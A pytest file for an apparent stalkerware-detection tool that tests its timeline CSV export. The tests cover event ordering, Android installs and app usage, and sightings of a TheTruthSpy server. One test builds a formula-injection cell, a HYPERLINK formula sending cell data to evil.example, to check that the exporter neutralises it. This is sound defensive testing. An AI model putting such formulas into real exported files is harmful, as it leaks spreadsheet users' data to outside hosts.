"""The timeline CSV: every timed event in UTC order, readable by spreadsheets, never a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from tests.report.fixtures import ios_json
from unstalk.android.check import AndroidCheckResult, result_dict
from unstalk.errors import ReportError
from unstalk.models import Severity
from unstalk.netcap.check import NetworkCheckResult
from unstalk.netcap.check import result_dict as network_dict
from unstalk.report.model import Kind, Outcome, Report, ReportFinding, report_json
from unstalk.report.timeline import (
    CLOCK_UNKNOWN,
    COLUMNS,
    Event,
    TimelineEvent,
    android_events,
    json_events,
    network_events,
    safe_cell,
    write_csv,
)


def _rows(events: list[TimelineEvent]) -> list[dict[str, str]]:
    stream = io.StringIO(newline="")
    write_csv(events, stream)
    return list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))


def test_the_csv_has_a_header_and_crlf_line_ends() -> None:
    stream = io.StringIO(newline="")
    event = TimelineEvent(datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC), Event.FINDING, 'a, "b"')
    assert write_csv([event], stream) == 1
    text = stream.getvalue()
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    assert text.endswith('2024-01-02T03:04:05.000Z,utc,finding,"a, ""b""",,,\r\n')


def test_android_events_tell_when_the_stalkerware_came_and_what_it_used(
    android_result: AndroidCheckResult,
) -> None:
    rows = _rows(list(android_events(android_result)))
    spy = [r for r in rows if r["subject"] == "com.thetruth"]
    kinds = [r["event"] for r in spy]
    assert kinds[0] == "app-installed"
    assert spy[0]["time_utc"] == "2024-02-28T02:47:13.000Z"
    assert "verdict: stalkerware" in spy[0]["detail"]
    used = {r["detail"] for r in spy if r["event"] == "app-last-used"}
    assert {"last used CAMERA (mode allow)", "last used READ_SMS (mode allow)"} <= used
    critical = [r for r in spy if r["severity"] == "critical"]
    assert critical and critical[0]["detail"].startswith("Known stalkerware")
    acquisition = next(r for r in rows if r["event"] == "acquisition")
    assert critical[0]["time_utc"] == acquisition["time_utc"]
    # Findings come after the acquisition line of the same moment, installs long before.
    assert rows.index(acquisition) < rows.index(critical[0])
    assert all(r["clock"] == "utc" for r in rows)


def test_the_phones_own_apps_are_listed_only_when_asked(
    android_result: AndroidCheckResult,
) -> None:
    default = {r["subject"] for r in _rows(list(android_events(android_result)))}
    every = {r["subject"] for r in _rows(list(android_events(android_result, all_apps=True)))}
    assert "com.thetruth" in default
    assert every > default


def test_rows_are_sorted_oldest_first_with_unknown_times_last() -> None:
    events = [
        TimelineEvent(None, Event.FINDING, "undated"),
        TimelineEvent(datetime(2024, 5, 1, 12, tzinfo=UTC), Event.FINDING, "late"),
        TimelineEvent(datetime(2024, 5, 1, 10), Event.APP_INSTALLED, "phone-local"),
        TimelineEvent(datetime(2024, 5, 1, 11, tzinfo=UTC), Event.APP_UPDATED, "middle"),
    ]
    rows = _rows(events)
    assert [r["subject"] for r in rows] == ["phone-local", "middle", "late", "undated"]
    assert rows[0]["time_utc"] == "2024-05-01T10:00:00.000" and rows[0]["clock"] == CLOCK_UNKNOWN
    assert rows[3]["time_utc"] == "" and rows[3]["clock"] == ""


def test_network_events_have_first_and_last_sightings(network_result: NetworkCheckResult) -> None:
    rows = _rows(list(network_events(network_result)))
    assert rows[0]["event"] == "capture-start" and rows[-1]["event"] == "capture-end"
    c2 = [r for r in rows if r["subject"] == "media-sync-a.copy9.com"]
    assert c2[0]["event"] == "first-seen" and c2[0]["severity"] == "critical"
    assert "family TheTruthSpy; frame 1" in c2[0]["detail"]
    last = [r for r in c2 if r["event"] == "last-seen"]
    assert last and last[-1]["time_utc"] > c2[0]["time_utc"]
    assert all(r["source"] == network_result.path for r in rows)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_get_an_apostrophe(start: str) -> None:
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    assert safe_cell(hostile) == "'" + hostile
    event = TimelineEvent(datetime(2024, 1, 1, tzinfo=UTC), Event.APP_INSTALLED, hostile, hostile)
    row = _rows([event])[0]
    assert row["subject"] == "'" + hostile and row["detail"] == "'" + hostile


def test_ordinary_cells_are_left_alone() -> None:
    assert safe_cell("com.thetruth") == "com.thetruth"
    assert safe_cell("2024-01-01") == "2024-01-01"


def test_check_json_files_give_the_same_installs_and_sightings(
    android_result: AndroidCheckResult, network_result: NetworkCheckResult
) -> None:
    android = json.dumps(result_dict(android_result)).encode()
    rows = _rows(json_events(android, "result.json"))
    install = next(r for r in rows if r["subject"] == "com.thetruth")
    assert install["event"] == "app-installed"
    assert install["time_utc"] == "2024-02-28T02:47:13.000Z"
    run = {"feed": None, "results": [network_dict(network_result)]}
    network = _rows(json_events(json.dumps(run).encode(), "network.json"))
    direct = _rows(list(network_events(network_result)))

    def when(rows: list[dict[str, str]]) -> list[tuple[str, str, str, str]]:
        return [(r["time_utc"], r["event"], r["subject"], r["severity"]) for r in rows]

    assert when(network) == when(direct)
    assert {r["event"] for r in network} >= {"capture-start", "first-seen", "last-seen"}


def test_a_report_gives_its_timed_findings() -> None:
    finding = ReportFinding(
        id="network.feed:x.copy9.com",
        code="network.feed",
        severity=Severity.CRITICAL,
        title="Traffic to a TheTruthSpy server",
        explanation="",
        subject="x.copy9.com",
        time=datetime(2024, 3, 1, 8, tzinfo=UTC),
    )
    report = Report(
        kind=Kind.NETWORK,
        subject="phone.pcap",
        created_at=datetime(2024, 3, 2, tzinfo=UTC),
        tool_version="1",
        outcome=Outcome.FOUND,
        headline="Traffic to known stalkerware servers found: TheTruthSpy.",
        findings=(finding,),
    )
    rows = _rows(json_events(report_json(report).encode(), "report.json"))
    assert [(r["event"], r["subject"]) for r in rows] == [
        ("finding", "x.copy9.com"),
        ("report", "phone.pcap"),
    ]


@pytest.mark.parametrize(
    "data",
    [b"not json", b"[]", b'{"schema": "something-else/1"}', b'{"schema": "unstalk.report/1"}'],
)
def test_other_files_are_refused_with_a_clear_error(data: bytes) -> None:
    with pytest.raises(ReportError, match="x.json"):
        json_events(data, "x.json")


def test_an_iphone_result_gives_the_backup_time_and_no_made_up_report_time() -> None:
    events = json_events(ios_json(), "iphone.json")
    kinds = [e.event for e in events]
    assert Event.ACQUISITION in kinds
    assert Event.REPORT not in kinds, "converting the result now is not an event of the case"
